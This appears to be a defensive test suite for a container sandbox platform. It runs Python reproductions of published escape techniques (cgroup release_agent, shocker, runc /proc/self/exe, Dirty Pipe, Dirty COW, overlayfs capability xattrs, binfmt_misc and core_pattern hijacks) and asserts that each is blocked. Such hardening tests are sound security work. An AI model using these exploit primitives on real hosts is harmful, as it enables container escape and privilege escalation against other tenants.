/** Ways out of containers that were published, each as its report has it, by root inside. */
import { createHash } from 'node:crypto';
import { createReadStream } from 'node:fs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { PlatformError, type Sandbox } from '@dsec/libdsec';
import { failureOf } from '../e2e/failure-of.ts';
import { aetherPid } from '../e2e/host-side.ts';
import { useServer } from '../e2e/started-server.ts';
import { attack, expectUnharmed, notRefused, onX64Only } from './attack.ts';
import { NESTED } from './nested.ts';
import { expectNothingTold, expectTold } from './told.ts';

const server = useServer();
onX64Only();

/** A file of the lowest layer, which all sandboxes share in memory. */
const SHARED = '/usr/bin/busybox';

let sandbox: Sandbox;
let neighbour: Sandbox;
let shared: string;

const sha256Inside = async (box: Sandbox, path: string): Promise<string> =>
  (await box.exec(['sha256sum', path])).stdout.slice(0, 64);

async function sha256Here(path: string): Promise<string> {
  const hash = createHash('sha256');
  for await (const chunk of createReadStream(path)) hash.update(chunk as Buffer);
  return hash.digest('hex');
}

/** The program of aether, as the host has it. */
const aetherProgram = async (): Promise<string> => `/proc/${await aetherPid(server(), neighbour.sandboxId)}/exe`;

beforeAll(async () => {
  [sandbox, neighbour] = await Promise.all([server().sandbox(), server().sandbox()]);
  shared = await sha256Inside(neighbour, SHARED);
});

afterAll(async () => {
  expect(await sha256Inside(neighbour, SHARED)).toBe(shared);
  await expectUnharmed(neighbour);
  await expectNothingTold(neighbour);
  await Promise.all([sandbox.stop(), neighbour.stop()]);
});

test('CVE-2022-0492: no group has a release agent, a setting or room for a child, in whatever namespaces it is mounted', async () => {
  const outcomes = await attack(
    sandbox,
    `${NESTED}
def groups():
    kinds = [line.split()[0] for line in open('/proc/cgroups').read().splitlines()[1:]] + ['v2']
    written, mounted = [], 0
    for kind in kinds:
        at = '/tmp/groups/' + kind
        os.makedirs(at, exist_ok=True)
        try: mount(b'cgroup2' if kind == 'v2' else b'cgroup', at, None if kind == 'v2' else kind)
        except OSError: continue
        mounted += 1
        for directory, _, files in os.walk(at):
            try: os.mkdir(directory + '/child'); written.append(directory + '/child')
            except OSError: pass
            for name in files + ['release_agent', 'notify_on_release', 'devices.allow']:
                try: os.close(os.open(os.path.join(directory, name), os.O_WRONLY)); written.append(os.path.join(directory, name))
                except OSError: pass
    attempt('mounted', lambda: mounted > 0)
    attempt('written', lambda: written)
    attempt('named', lambda: mount(b'cgroup', '/tmp/groups', 'none,name=mine'))
    attempt('with an agent', lambda: mount(b'cgroup', '/tmp/groups', 'none,name=mine,release_agent=/tmp/x'))
nested(groups)
for at in ['/sys/fs/cgroup', '/tmp']: attempt('mount at ' + at, lambda: mount(b'cgroup', at, 'memory'))
`,
  );
  expect(Object.fromEntries(outcomes)).toEqual({
    mounted: 'DONE True',
    written: 'DONE []',
    named: 'EPERM',
    'with an agent': 'EINVAL',
    'mount at /sys/fs/cgroup': 'EPERM',
    'mount at /tmp': 'EPERM',
  });
});

test('open_by_handle_at ("shocker"): no file of a filesystem is opened by its number, from here or from a nested namespace', async () => {
  const outcomes = await attack(
    sandbox,
    `${NESTED}
def handles(label):
    for path in ['/', '/etc/hosts', '/proc', '/dev/shm', '/sys']:
        def shocker(inode):
            top = os.open(path, os.O_RDONLY)
            # struct file_handle: bytes, type (FILEID_INO32_GEN), inode and generation.
            return lambda: call(304, top, ctypes.create_string_buffer(struct.pack('IiII', 8, 1, inode, 0)), os.O_RDONLY)
        for inode in [1, 2, 128, 256]: attempt('%s %s %d' % (label, path, inode), shocker(inode))
        def own():
            buffer, mount_id = ctypes.create_string_buffer(struct.pack('Ii', 120, 0), 136), ctypes.c_int()
            call(303, -100, path.encode(), buffer, ctypes.byref(mount_id), 0)
            call(304, os.open(path, os.O_RDONLY), buffer, os.O_RDONLY)
        attempt('%s own %s' % (label, path), own)
handles('root')
nested(lambda: handles('nested'))
`,
  );
  expect(notRefused(outcomes)).toEqual([]);
  expect(outcomes.size).toBe(50);
  await expectTold(sandbox, 'call', ['open_by_handle_at']);
});

test('CVE-2019-5736, CVE-2024-21626: a command that is /proc/self/exe, or in a directory that is a descriptor, reaches nothing of who starts it', {
  timeout: 60_000,
}, async () => {
  const before = await sha256Here(await aetherProgram());
  await sandbox.runShell(
    `mkdir -p /tmp/x && cd /tmp/x && printf '#!/proc/self/exe\\n' > self && printf '#!/proc/1/exe\\n' > first && chmod 755 self first && ln -s /proc/self/exe link && for n in $(seq 0 40); do ln -s /proc/self/fd/$n d$n; done`,
  );
  // Looks for whoever starts commands, in the moment before it becomes the command, and tries to keep hold of its program.
  const hunter = sandbox.exec([
    'python3',
    '-c',
    `
import os
held, own = {}, os.stat('/')
open('/tmp/x/ready', 'w').close()
while not os.path.exists('/tmp/x/over'):
    for pid in os.listdir('/proc'):
        if not pid.isdigit(): continue
        try:
            if 'aether' in os.readlink('/proc/%s/exe' % pid): held['program'] = os.open('/proc/%s/exe' % pid, os.O_RDONLY)
        except OSError: pass
        try:
            if not os.path.samestat(os.stat('/proc/%s/root' % pid), own): held['root'] = pid
        except OSError: pass
print(sorted(held))`,
  ]);
  await sandbox.files.write('/tmp/x/started', '');
  for (const argv of [['/tmp/x/self'], ['/tmp/x/first'], ['/tmp/x/link'], ['/proc/self/exe'], ['/proc/1/exe']]) {
    // Refused, or its own failure: told as what it is, and at once.
    const ended = await sandbox.exec(argv, { timeoutMs: 10_000 }).then(
      ({ exitCode, stdout, isTimedOut }) => ({ isBad: exitCode === 0 || stdout !== '' || isTimedOut }),
      () => ({ isBad: false }),
    );
    expect([argv, ended.isBad]).toEqual([argv, false]);
  }
  const directories = Array.from({ length: 41 }, (_, n) => [
    `/proc/self/fd/${n}`,
    `/tmp/x/d${n}`,
    `/proc/1/fd/${n}`,
  ]).flat();
  const where = ['sh', '-c', 'stat -c %d:%i . ../..; readlink /proc/self/cwd'];
  const own = (await sandbox.exec(where, { cwd: '/proc' })).stdout;
  for (const cwd of directories) {
    const entered = await sandbox.exec(where, { cwd }).then(
      (result) => result,
      (error: unknown) => error,
    );
    // Whoever starts commands has one directory open, which is the sandbox's own /proc.
    if (PlatformError.is(entered)) expect([cwd, entered.code]).toEqual([cwd, 'cwd_not_found']);
    else expect([cwd, entered]).toEqual([cwd, expect.objectContaining({ exitCode: 0, stdout: own })]);
  }
  for (const cwd of ['/proc/1/cwd', '/proc/1/root', '/proc/self/task/1/root']) {
    expect((await failureOf(sandbox.exec(['ls'], { cwd }))).code).toBe('cwd_not_found');
  }
  await sandbox.files.write('/tmp/x/over', '');
  expect((await hunter).stdout).toBe('[]\n');
  expect(await sha256Here(await aetherProgram())).toBe(before);
});

test('CVE-2016-5195, CVE-2022-0847: a file of a layer, which neighbours have in the same memory, keeps its bytes', async () => {
  const outcomes = await attack(
    sandbox,
    `
import hashlib, threading
path = '${SHARED}'
whole = lambda: hashlib.sha256(open(path, 'rb').read()).hexdigest()
before, layer = whole(), os.open(path, os.O_RDONLY)
def dirty_pipe():
    reader, writer = os.pipe(); size = fcntl.fcntl(writer, 1032)
    os.write(writer, b'x' * size); os.read(reader, size)
    at = ctypes.c_longlong(63)
    if libc.splice(layer, ctypes.byref(at), writer, None, 1, 0) != 1: raise OSError(ctypes.get_errno(), 'splice')
    os.write(writer, b'DIRTY')
def dirty_cow():
    libc.mmap.restype = ctypes.c_void_p
    at, memory, until = libc.mmap(None, 4096, 1, 2, layer, 0), os.open('/proc/self/mem', os.O_RDWR), time.monotonic() + 0.5
    def drop():
        while time.monotonic() < until: libc.madvise(ctypes.c_void_p(at), 4096, 4)
    dropping = threading.Thread(target=drop); dropping.start()
    while time.monotonic() < until: os.pwrite(memory, b'DIRTYCOW', at + 64)
    dropping.join()
attempt('pipe', dirty_pipe)
attempt('cow', dirty_cow)
attempt('cut', lambda: os.ftruncate(layer, 0))
attempt('hole', lambda: call(285, layer, 3, 0, 4096))
attempt('clone', lambda: fcntl.ioctl(layer, 0x40049409, os.open('/tmp/other', os.O_RDWR | os.O_CREAT)))
attempt('by /proc', lambda: os.open('/proc/self/fd/%d' % os.open('/proc/self/exe', os.O_RDONLY), os.O_WRONLY))
attempt('same', lambda: whole() == before)
`,
  );
  // The first two write to memory of their own, and what is told is what the file holds.
  expect(notRefused(outcomes)).toEqual(['pipe: DONE', 'cow: DONE', 'same: DONE True']);
  expect(await sha256Inside(neighbour, SHARED)).toBe(shared);
});

test('CVE-2022-0185, CVE-2023-0386, CVE-2021-3493, CVE-2021-22555: filesystems, overlays and packet filters of a nested namespace give nothing outside of it', async () => {
  const outcomes = await attack(
    sandbox,
    `${NESTED}
import shutil
def long_options(kind):
    def action():
        context = call(430, kind, 0)
        for _ in range(40): call(431, context, 1, b'A' * 200, b'B' * 255, 0)
    return action
def inside():
    for kind in [b'cgroup2', b'tmpfs', b'proc', b'overlay', b'mqueue', b'devpts', b'ext4']: attempt('options of ' + kind.decode(), long_options(kind))
    mount(b'tmpfs', '/tmp/m')
    for name in ['lower', 'upper', 'work', 'over']: os.mkdir('/tmp/m/' + name)
    shutil.copy('/usr/bin/python3', '/tmp/m/lower/p'); os.chmod('/tmp/m/lower/p', 0o4755)
    mount(b'overlay', '/tmp/m/over', 'lowerdir=/tmp/m/lower,upperdir=/tmp/m/upper,workdir=/tmp/m/work,userxattr')
    os.utime('/tmp/m/over/p')
    # Every capability, in the form that says nothing of whose they are.
    try: os.setxattr('/tmp/m/over/p', 'security.capability', struct.pack('<IIIII', 0x02000001, 0xffffffff, 0, 0x1ff, 0))
    except OSError: pass
    attempt('a mark of the real overlay', lambda: os.setxattr('/tmp/m/upper/p', 'trusted.overlay.redirect', b'/etc/shadow'))
    # Out of the namespace by a descriptor: the file as everybody else of the sandbox has it.
    there.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack('i', os.open('/tmp/m/upper/p', os.O_RDONLY)))])
    for name, family, level, option in [('ip_tables', 2, 0, 64), ('arp_tables', 2, 0, 96), ('ip6_tables', 10, 41, 64), ('bridge', 2, 0, 128), ('virtual servers', 2, 0, 1152)]:
        attempt('replace ' + name, lambda: socket.socket(family, 2).setsockopt(level, option, bytes(96)))
        attempt('ask ' + name, lambda: socket.socket(family, 2).getsockopt(level, option, 84))
    attempt('netfilter', lambda: socket.socket(16, 3, 12))
here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
os.setgroups([]); os.setgid(1000); os.setuid(1000); libc.prctl(4, 1, 0, 0, 0)
nested(inside)
# Still the user: what the file gives is not more than that.
here.settimeout(10)
_, rights, _, _ = here.recvmsg(1, socket.CMSG_SPACE(4))
program = struct.unpack('i', rights[0][2])[0]
told = subprocess.run(['/proc/self/fd/%d' % program, '-c', 'import os; print(os.geteuid(), [line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff")])'],
  pass_fds=[program], capture_output=True, text=True)
attempt('who it runs as', lambda: told.stdout.strip())
`,
  );
  for (const [name, outcome] of outcomes) {
    if (/^(replace|ask) /.test(name)) expect([name, outcome]).toEqual([name, 'ENOPROTOOPT']);
  }
  expect(outcomes.get('who it runs as')).toMatch(/^DONE (1000 \['0000000000000000'\])?$/);
  expect(notRefused(outcomes)).toEqual([`who it runs as: ${outcomes.get('who it runs as')}`]);
});

test('CVE-2020-15257 and handlers of the kernel: programs that a nested namespace registers run for nobody else', async () => {
  const outcomes = await attack(
    sandbox,
    `${NESTED}
def inside():
    os.makedirs('/tmp/m', exist_ok=True)
    attempt('mount', lambda: mount(b'binfmt_misc', '/tmp/m'))
    attempt('register', lambda: write('/tmp/m/register', b':mine:M::XYZW::/bin/true:F'))
    open('/tmp/formatted', 'w').write('XYZW'); os.chmod('/tmp/formatted', 0o755)
    attempt('inside', lambda: subprocess.run(['/tmp/formatted']).returncode)
    sys.stdout.flush()
    os.kill(os.getpid(), signal.SIGSEGV)
nested(inside)
attempt('outside', lambda: subprocess.run(['/tmp/formatted']))
attempt('abstract names', lambda: [line.split()[-1] for line in open('/proc/net/unix') if '@' in line])
for name in ['kernel/core_pattern', 'kernel/modprobe', 'kernel/hotplug', 'kernel/usermodehelper/inheritable', 'kernel/core_pipe_limit', 'fs/suid_dumpable', 'fs/binfmt_misc/register']:
    attempt(name, lambda: write('/proc/sys/' + name, b'|/tmp/x'))
attempt('helper of devices', lambda: write('/sys/kernel/uevent_helper', b'/tmp/x'))
attempt('an event of a device', lambda: write('/sys/class/mem/null/uevent', b'change'))
`,
  );
  const { mount, register, ...rest } = Object.fromEntries(outcomes) as Record<string, string>;
  // Where the kernel has no such handlers for each namespace, there are none.
  expect([mount, register]).toEqual(mount === 'DONE' ? ['DONE', 'DONE'] : [mount, register]);
  expect(rest['outside']).toBe('ENOEXEC');
  expect(rest['abstract names']).toBe('DONE []');
  expect(notRefused(new Map(Object.entries(rest))).map((line) => line.split(':')[0])).toEqual(
    mount === 'DONE' ? ['inside', 'abstract names'] : ['abstract names'],
  );
  expect((await failureOf(neighbour.exec(['/tmp/formatted']))).code).toBe('command_not_found');
});
